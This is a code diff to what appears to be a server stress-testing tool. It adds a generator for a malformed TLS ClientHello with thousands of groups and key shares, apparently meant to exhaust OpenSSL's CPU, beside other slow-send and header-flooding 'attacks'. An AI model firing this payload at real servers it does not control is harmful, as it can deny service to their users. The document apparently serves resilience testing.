@@ -10,7 +10,9 @@ type Attack = {
   readonly then: 'more' | 'more for a reply' | 'wait' | 'disconnect';
   /** Whether it reads what the server sends, and discards it. */
   readonly reads: boolean;
+  /** Whether it connects over TLS; if not, whether it connects to the port for TLS all the same. */
   readonly isTls: boolean;
+  readonly isToTlsPort?: boolean;
 };
 
 const SEND_BYTES = 64 * 1024; // at least, at once
@@ -33,7 +35,7 @@ export const ATTACKS: ReadonlyMap<string, Attack> = new Map([
   ['chunks of line ends', withoutEnd(CHUNKED, `2000\r\n${'\r\n'.repeat(0x1000)}\r\n`)],
 ]);
 
-/** What clients do, by name: the attacks, and what the crowds of `--crowd` do. All of that is legal. */
+/** What clients do, by name: the attacks, and what the crowds of `--crowd` do. All of that is legal, except `ClientHello`. */
 export const WORK: ReadonlyMap<string, Attack> = new Map([
   ...ATTACKS,
   ['short', attack('', GREETING, 'more for a reply')],
@@ -42,11 +44,35 @@ export const WORK: ReadonlyMap<string, Attack> = new Map([
   ['heads', attack('', LONG_HEAD, 'more for a reply')],
   ['TLS heads', { ...attack('', LONG_HEAD, 'more for a reply'), isTls: true }],
   ['handshakes', { ...attack('', '', 'disconnect'), isTls: true }],
+  ['ClientHello', { ...attack('', '', 'wait'), first: clientHello(16_300, 6_500), isToTlsPort: true }],
   ['pipelined TLS', { ...attack(GREETING.repeat(8_000), '', 'wait'), reads: false, isTls: true }],
 ]);
 
 function withoutEnd(first: string, repeated: string): Attack {
   return attack(first, repeated.repeat(Math.ceil(SEND_BYTES / repeated.length)), 'more');
+}
+
+// A ClientHello (RFC 8446 4.1.2), in records. For each of its key shares, OpenSSL looks through its groups up to the last one.
+function clientHello(groups: number, keyShares: number): Buffer {
+  const LAST = Buffer.from('0a0b', 'hex');
+  const list = (...parts: readonly Buffer[]) => withLength(2, ...parts);
+  const extensions = list(
+    Buffer.from('002b0003020304' + '000d000400020403', 'hex'), // TLS 1.3; ecdsa_secp256r1_sha256
+    Buffer.from('000a', 'hex'), list(list(Buffer.alloc(2 * groups - 2, '0a0a', 'hex'), LAST)),
+    Buffer.from('0033', 'hex'), list(list(Buffer.alloc(5 * keyShares, Buffer.concat([LAST, Buffer.from('000101', 'hex')])))),
+  );
+  // The version, a random, no session, one cipher suite, no compression.
+  const fields = Buffer.from(`0303${'01'.repeat(32)}00` + '00021301' + '0100', 'hex');
+  const message = Buffer.concat([Buffer.of(1), withLength(3, fields, extensions)]);
+  const records = Array.from({ length: Math.ceil(message.length / 0x4000) }, (_, i) =>
+    [Buffer.from('160301', 'hex'), list(message.subarray(i * 0x4000, (i + 1) * 0x4000))]);
+  return Buffer.concat(records.flat());
+}
+
+function withLength(lengthBytes: number, ...parts: readonly Buffer[]): Buffer {
+  const all = Buffer.concat(parts), length = Buffer.alloc(lengthBytes);
+  length.writeUIntBE(all.length, 0, lengthBytes);
+  return Buffer.concat([length, all]);
 }
 
 function attack(first: string, more: string, then: Attack['then']): Attack {
